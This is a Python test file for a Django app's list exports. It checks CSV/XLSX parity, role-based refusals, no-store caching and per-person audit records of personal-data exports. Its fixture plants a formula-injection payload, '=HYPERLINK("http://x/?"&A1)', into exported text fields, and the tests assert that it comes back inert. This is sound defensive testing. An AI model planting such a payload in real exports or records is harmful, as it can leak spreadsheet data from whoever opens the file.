"""Every export of every list: the same filters in CSV and XLSX, a planted formula comes back
inert, wrong roles are refused, and exports and pages of personal data are never stored and
are recorded in each exported person's history."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from datetime import date, timedelta
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from liaison.accounts.roles import Role
from liaison.audit.models import AuditEntry
from liaison.catalog.models import Course, FundingSource, Venue
from liaison.catalog.services import reference_catalog_load
from liaison.core import export
from liaison.core.tests.test_url_auth import PAGES
from liaison.partners.models import Agency, Country
from liaison.people.models import Person, Staff
from liaison.people.selectors import person_history
from liaison.training import services as training_services
from liaison.training.models import FollowUp, TrainingRequest
from liaison.vetting.services import vetting_submit
from liaison.visits import services as visit_services
from liaison.visits.models import FocusArea, Site, Stop, Visit, YearPlan, YearPlanStatus

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://x/?"&A1)'

# url name -> the export's query string; the planted record is found in every one.
EXPORTS: dict[str, str] = {
    "catalog:course_list": "",
    "catalog:venue_list": "",
    "training:request_list": "",
    "training:delivery_list": "",
    "training:follow_up_list": "",
    "vetting:record_list": "status=submitted",
    "audit:search": "",
    "partners:country_list": "",
    "partners:agency_list": "",
    "visits:visit_list": "",
    "visits:site_list": "",
    "visits:year_plan_list": "",
    "visits:year_plan_detail": "",
    "visits:day_calendar": "",
    "people:person_list": "",
    "people:staff_list": "",
}
FORMATS = ("csv", "xlsx")


@pytest.fixture
def planted(users, make_person, make_agency) -> dict[str, Any]:
    """One record behind every export, each with the payload in a text field it exports."""
    manager = users[Role.PROGRAM_MANAGER]
    reference_catalog_load()
    Course.objects.filter(code="LBI-101").update(title=PAYLOAD)
    Venue.objects.filter(code="ILEA-SAL").update(name=PAYLOAD)
    Country.objects.filter(code="PE").update(name=PAYLOAD)
    agency = make_agency("PE")
    Agency.objects.filter(pk=agency.pk).update(name=PAYLOAD)
    person = make_person("Ana", "Quispe", agency=agency, position=PAYLOAD)
    vetting_submit(actor=manager, person=person)
    Staff.objects.create(kind="instructor", given_name="Norm", family_name="Roy", title=PAYLOAD)
    course = Course.objects.get(code="LBI-101")
    starts_on = date.today() + timedelta(days=30)
    training_services.delivery_create(
        actor=manager,
        course=course,
        venue=Venue.objects.get(code="ILEA-SAL"),
        starts_on=starts_on,
        ends_on=starts_on + timedelta(days=course.length_days - 1),
        funding_source=FundingSource.objects.get(code="INL"),
        capacity=20,
    )
    request = training_services.training_request_file(
        actor=manager,
        country=Country.objects.get(code="PE"),
        course=course,
        justification="Callao port officers asked for it.",
    )
    TrainingRequest.objects.filter(pk=request.pk).update(need=PAYLOAD)
    FollowUp.objects.create(kind="mentoring", title=PAYLOAD, starts_on=starts_on)
    AuditEntry.objects.create(
        action="test.planted", object_type="people.person", object_id="0", object_label=PAYLOAD
    )
    focus = FocusArea.objects.create(code="targeting_risk", name="Targeting and risk")
    site = Site.objects.create(
        code="POE-LRD", name=PAYLOAD, kind="port_of_entry", city="Laredo", state="TX",
        latitude=27.5, longitude=-99.5,
    )  # fmt: skip
    start = date.today() + timedelta(days=60)
    visit = visit_services.visit_request_file(
        actor=users[Role.IVP_COORDINATOR],
        focus={focus: 3},
        country=Country.objects.get(code="PE"),
        sponsor=FundingSource.objects.get(code="INL"),
        purpose="Risk management at land ports",
        earliest_start=start,
        latest_end=start + timedelta(days=13),
        length_days=5,
        delegation_size=3,
    )
    Visit.objects.filter(pk=visit.pk).update(purpose=PAYLOAD)
    Stop.objects.create(visit=visit, site=site, day=timezone.localdate())
    outcome = {"visit": visit.pk, "country": "PE", "placed": False, "start": None, "end": None}
    plan = YearPlan.objects.create(
        status=YearPlanStatus.DONE,
        error=PAYLOAD,
        outcome=[{**outcome, "score": 0, "reason": PAYLOAD}],
    )
    return {"year_plan": plan, "person": person}


def _url(name: str, planted: dict[str, Any], fmt: str) -> str:
    kwargs = {"pk": planted["year_plan"].pk} if name == "visits:year_plan_detail" else {}
    query = "&".join(q for q in (EXPORTS[name], f"format={fmt}") if q)
    return f"{reverse(name, kwargs=kwargs)}?{query}"


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _assert_inert(fmt: str, content: bytes) -> None:
    if fmt == "csv":
        cells = [cell for row in _csv_rows(content) for cell in row]
        assert "'" + PAYLOAD in cells
        assert not [cell for cell in cells if cell.startswith("=")]
        return
    book = load_workbook(io.BytesIO(content))
    sheet_cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
    planted = [cell for cell in sheet_cells if cell.value == PAYLOAD]
    assert planted, "the planted text is in the file"
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in planted)
    assert not [cell for cell in sheet_cells if cell.data_type == "f"]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula for Excel to evaluate


def test_every_export_is_in_this_table():
    """A list that exports names its URL here, so that it is tested below."""
    assert set(EXPORTS) <= set(PAGES)


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_a_planted_formula_comes_back_inert(client, users, planted, name, fmt):
    client.force_login(users[Role.ADMINISTRATOR])
    response = client.get(_url(name, planted, fmt))
    assert response.status_code == 200
    assert response["Content-Type"] == (
        export.CSV_CONTENT_TYPE if fmt == "csv" else export.XLSX_CONTENT_TYPE
    )
    assert response["Content-Disposition"].endswith(f'.{fmt}"')
    _assert_inert(fmt, response.content)


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_csv_and_xlsx_carry_the_same_rows(client, users, planted, name):
    client.force_login(users[Role.ADMINISTRATOR])
    as_csv = _csv_rows(client.get(_url(name, planted, "csv")).content)
    book = load_workbook(io.BytesIO(client.get(_url(name, planted, "xlsx")).content))
    as_xlsx = list(book.worksheets[0].iter_rows(values_only=True))
    assert len(as_csv) == len(as_xlsx) > 1
    assert as_csv[0] == list(as_xlsx[0])


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_an_export_is_refused_to_a_role_that_may_not_see_the_list(
    client, users, planted, name, fmt
):
    _, allowed = PAGES[name]
    refused = [role for role in Role if role not in allowed]
    assert refused
    for role in refused:
        client.force_login(users[role])
        response = client.get(_url(name, planted, fmt))
        assert response.status_code == 403, f"{role} must be refused the {fmt} of {name}"


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_pending_names_are_refused_to_who_may_read_but_not_exchange_them(
    client, users, planted, fmt
):
    client.force_login(users[Role.PROGRAM_MANAGER])
    response = client.get(_url("vetting:record_list", planted, fmt))
    assert response.status_code == 403
    assert not AuditEntry.objects.filter(action="person.exported").exists()


def test_the_list_pages_link_both_formats_with_the_current_filters(client, users, planted):
    client.force_login(users[Role.ADMINISTRATOR])
    page = client.get(reverse("people:person_list") + "?q=Quispe").content.decode("utf-8-sig")
    assert "?q=Quispe&amp;format=csv" in page and "?q=Quispe&amp;format=xlsx" in page
    page = client.get(reverse("training:delivery_list") + "?status=planned").content.decode(
        "utf-8-sig"
    )
    assert "?status=planned&amp;format=xlsx" in page


@pytest.mark.parametrize("fmt", FORMATS)
def test_roster_template_in_both_formats(client, users, fmt):
    client.force_login(users[Role.TRAINING_ADVISOR])
    response = client.get(reverse("training:roster_template", args=[fmt]))
    assert response.status_code == 200
    if fmt == "csv":
        header = _csv_rows(response.content)[0]
    else:
        sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
        header = [cell.value for cell in next(sheet.iter_rows())]
    assert header and all(isinstance(name, str) and name for name in header)


# --- personal data: recorded per person, never stored ------------------------------------------


def _exported(person: Person) -> list[AuditEntry]:
    return list(person_history(person=person).filter(action="person.exported"))


@pytest.mark.parametrize("fmt", FORMATS)
def test_exporting_people_records_it_in_each_persons_history(client, users, make_person, fmt):
    manager = users[Role.PROGRAM_MANAGER]
    people = [make_person("Ana", "Quispe"), make_person("Luis", "Mamani")]
    client.force_login(manager)
    response = client.get(reverse("people:person_list") + f"?format={fmt}")
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    for person in people:
        (entry,) = _exported(person)
        assert entry.actor == manager and entry.actor_name == manager.username
        assert entry.changes == {"file": [None, f"people.{fmt}"]}
        assert timezone.now() - entry.at < timedelta(minutes=1)


def test_a_filtered_export_records_only_the_people_in_it(client, users, make_person):
    ana, luis = make_person("Ana", "Quispe"), make_person("Luis", "Mamani")
    client.force_login(users[Role.PROGRAM_MANAGER])
    client.get(reverse("people:person_list") + "?q=Quispe&format=csv")
    assert len(_exported(ana)) == 1
    assert _exported(luis) == []


def test_the_person_page_shows_who_exported_them(client, users, make_person):
    person = make_person("Ana", "Quispe")
    client.force_login(users[Role.PROGRAM_MANAGER])
    client.get(reverse("people:person_list") + "?format=xlsx")
    page = client.get(reverse("people:person_detail", args=[person.pk])).content.decode("utf-8-sig")
    assert "person.exported" in page and "people.xlsx" in page


def test_a_long_export_records_people_in_a_few_statements(client, users, make_person, monkeypatch):
    monkeypatch.setattr(export, "RECORD_BATCH", 4)
    for n in range(10):
        make_person(f"Ana{n}", "Quispe")
    client.force_login(users[Role.PROGRAM_MANAGER])
    with CaptureQueriesContext(connection) as queries:
        response = client.get(reverse("people:person_list") + "?format=csv")
    assert len(_csv_rows(response.content)) == 11
    # INSERT (executemany) on SQLite, COPY on PostgreSQL: one statement per batch either way.
    inserts = [
        q
        for q in queries
        if q["sql"].split('"audit_auditentry"')[0].endswith(("INSERT INTO ", "COPY "))
    ]
    assert len(inserts) == 3  # batches of 4, 4 and 2
    assert AuditEntry.objects.filter(action="person.exported").count() == 10


def test_exporting_staff_records_it_in_each_staff_members_history(client, users):
    staff = Staff.objects.create(kind="instructor", given_name="Norm", family_name="Roy")
    client.force_login(users[Role.PROGRAM_MANAGER])
    response = client.get(reverse("people:staff_list") + "?format=csv")
    assert "no-store" in response["Cache-Control"]
    entry = AuditEntry.objects.get(action="staff.exported", object_id=str(staff.pk))
    assert entry.object_type == "people.staff"
    assert entry.changes == {"file": [None, "staff.csv"]}


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_vetting_pending_names_are_recorded_per_person(client, users, make_person, fmt):
    officer = users[Role.VETTING_OFFICER]
    people = [make_person("Ana", "Quispe"), make_person("Luis", "Mamani")]
    for person in people:
        vetting_submit(actor=users[Role.PROGRAM_MANAGER], person=person)
    client.force_login(officer)
    response = client.get(reverse("vetting:record_list") + f"?status=submitted&format={fmt}")
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    for person in people:
        (entry,) = _exported(person)
        assert entry.actor == officer
        assert entry.changes == {"file": [None, f"vetting-pending.{fmt}"]}


def test_the_audit_export_is_never_stored(client, users):
    client.force_login(users[Role.ADMINISTRATOR])
    response = client.get(reverse("audit:search") + "?format=xlsx")
    assert "no-store" in response["Cache-Control"]


def test_an_export_without_people_records_nothing_in_anyones_history(client, users):
    reference_catalog_load()
    client.force_login(users[Role.PROGRAM_MANAGER])
    response = client.get(reverse("catalog:course_list") + "?format=csv")
    assert response.status_code == 200
    assert not AuditEntry.objects.filter(action__endswith=".exported").exists()


@pytest.fixture
def roster_delivery(users, make_person) -> Any:
    manager = users[Role.PROGRAM_MANAGER]
    reference_catalog_load()
    course = Course.objects.get(code="LBI-101")
    starts_on = date.today() + timedelta(days=30)
    delivery = training_services.delivery_create(
        actor=manager,
        course=course,
        venue=Venue.objects.get(code="ILEA-SAL"),
        starts_on=starts_on,
        ends_on=starts_on + timedelta(days=course.length_days - 1),
        funding_source=FundingSource.objects.get(code="INL"),
        capacity=20,
    )
    training_services.enrollment_nominate(
        actor=manager, delivery=delivery, person=make_person("Ana", "Quispe")
    )
    return delivery


PERSONAL_PAGES: list[tuple[str, str, Callable[[Any, Any], list[Any]]]] = [
    ("get", "people:person_list", lambda person, delivery: []),
    ("get", "people:person_detail", lambda person, delivery: [person.pk]),
    ("get", "people:person_update", lambda person, delivery: [person.pk]),
    ("post", "people:person_personal_data", lambda person, delivery: [person.pk]),
    ("get", "training:delivery_roster", lambda person, delivery: [delivery.pk]),
    ("get", "training:delivery_attendance", lambda person, delivery: [delivery.pk]),
    ("get", "training:delivery_results", lambda person, delivery: [delivery.pk]),
]


@pytest.mark.parametrize(("method", "name", "args"), PERSONAL_PAGES)
def test_pages_of_personal_data_are_never_stored(
    client, users, make_person, roster_delivery, method, name, args
):
    person = make_person("Luis", "Mamani", birth_date=date(1980, 5, 1))
    client.force_login(users[Role.PROGRAM_MANAGER])
    response = getattr(client, method)(reverse(name, args=args(person, roster_delivery)))
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    assert "private" in response["Cache-Control"]


def test_an_htmx_search_of_people_is_never_stored(client, users, make_person):
    make_person("Ana", "Quispe")
    client.force_login(users[Role.PROGRAM_MANAGER])
    response = client.get(reverse("people:person_list") + "?q=Ana", HTTP_HX_REQUEST="true")
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
